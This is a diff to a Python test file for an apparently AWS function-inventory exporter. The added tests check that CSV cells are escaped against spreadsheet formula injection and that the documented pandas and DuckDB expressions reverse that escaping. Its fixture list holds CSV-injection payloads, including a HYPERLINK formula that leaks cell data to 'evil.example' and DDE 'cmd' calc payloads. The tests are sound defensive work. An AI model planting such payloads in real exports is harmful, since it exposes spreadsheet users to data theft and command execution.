@@ -11,6 +11,7 @@ from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
 
+import duckdb
 import pandas as pd
 import pyarrow as pa
 import pyarrow.parquet as pq
@@ -674,3 +675,82 @@ def test_legacy_inventory_sink_is_a_run_sink_without_manifest(tmp_path: Path) ->
     assert (sink.path, sink.status_path) == (tmp_path / "inv.parquet", tmp_path / "inv.status.parquet")
     sink.commit(_status())
     assert _listing(tmp_path) == ["inv.parquet", "inv.status.parquet"]
+
+
+# --- CSV cells a spreadsheet would run as formulas ------------------------------------------------------
+
+HOSTILE_CELLS = (
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "'=already quoted",
+    "''+two quotes",
+    "'plain quote",
+    "a = b",
+    "-",
+    "plain",
+)
+# The expressions docs/schema.md gives readers; the tests below use them verbatim.
+PANDAS_PATTERN, PANDAS_REPLACEMENT = r"^'('*[=+\-@\t\r])", r"\1"
+PANDAS_UNESCAPE = f'.replace(r"{PANDAS_PATTERN}", r"{PANDAS_REPLACEMENT}", regex=True)'  # as in the docs
+DUCKDB_MACRO = """CREATE MACRO csv_unescape(s) AS regexp_replace(s, '^''(''*[=+\\-@\\t\\r])', '\\1');"""
+ROOT = Path(__file__).resolve().parent.parent
+
+
+def _hostile_inventory(tmp_path: Path) -> tuple[Path, Path]:
+    path = tmp_path / "inventory.csv"
+    sink = _sink(path, Format.CSV)
+    items = [_item(f"f{i}", Description=text) for i, text in enumerate(HOSTILE_CELLS)]
+    account = Account("012345678901", "=cmd|'/C calc'!A0", ("@team",), "arn:aws:iam::012345678901:role/R", None)
+    sink.write(function_batch(Target(account, "eu-west-1"), SNAPSHOT, items))
+    status = _status(len(HOSTILE_CELLS)).to_pylist()
+    for row, text in zip(status, HOSTILE_CELLS, strict=True):
+        row.update(status="failed", error_code="+Code", error_message=text, function_count=None)
+    sink.commit(pa.Table.from_pylist(status, schema=STATUS_SCHEMA))
+    return path, sink.status_path
+
+
+def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
+    for path in _hostile_inventory(tmp_path):
+        with path.open(newline="", encoding="utf-8") as handle:
+            cells = [cell for row in csv.reader(handle) for cell in row]
+        assert cells, path
+        assert [c for c in cells if c[:1] in {"=", "+", "-", "@", "\t", "\r"}] == []
+    rows = _read_csv(tmp_path / "inventory.csv")
+    assert [r["description"] for r in rows][:3] == [f"'{HOSTILE_CELLS[0]}", f"'{HOSTILE_CELLS[1]}", "'-2+3"]
+    assert rows[0]["account_name"] == "'=cmd|'/C calc'!A0"
+    assert json.loads(rows[0]["account_tags"]) == ["@team"]  # a JSON list starts with `[`: never escaped
+    assert rows[0]["memory_size"] == "128"
+    parquet = tmp_path / "inventory.parquet"  # Parquet is typed: never escaped
+    sink = _sink(parquet, Format.PARQUET)
+    sink.write(function_batch(_target(), SNAPSHOT, [_item("f", Description=HOSTILE_CELLS[0])]))
+    sink.commit(_status())
+    assert pq.read_table(parquet).column("description").to_pylist() == [HOSTILE_CELLS[0]]
+
+
+def test_csv_escaping_is_undone_by_the_documented_pandas_and_duckdb_expressions(tmp_path: Path) -> None:
+    docs = (ROOT / "docs" / "schema.md").read_text(encoding="utf-8")
+    assert PANDAS_UNESCAPE in docs and DUCKDB_MACRO in docs
+    inventory, status = _hostile_inventory(tmp_path)
+
+    frame = pd.read_csv(inventory, dtype={"account_id": str}).replace(PANDAS_PATTERN, PANDAS_REPLACEMENT, regex=True)
+    assert frame["description"].tolist() == list(HOSTILE_CELLS)
+    assert set(frame["account_name"]) == {"=cmd|'/C calc'!A0"}
+    assert frame["memory_size"].tolist() == [128] * len(HOSTILE_CELLS)
+    status_frame = pd.read_csv(status).replace(PANDAS_PATTERN, PANDAS_REPLACEMENT, regex=True)
+    assert status_frame["error_message"].tolist() == list(HOSTILE_CELLS)
+
+    with duckdb.connect() as con:
+        con.execute(DUCKDB_MACRO)
+        got = con.execute(
+            "SELECT csv_unescape(description), csv_unescape(account_name) FROM read_csv(?)"
+            " ORDER BY length(function_name), function_name",
+            [str(inventory)],
+        ).fetchall()
+        errors = con.execute("SELECT csv_unescape(error_message) FROM read_csv(?)", [str(status)]).fetchall()
+    assert [d for d, _ in got] == list(HOSTILE_CELLS)
+    assert {a for _, a in got} == {"=cmd|'/C calc'!A0"}
+    assert [e for (e,) in errors] == list(HOSTILE_CELLS)
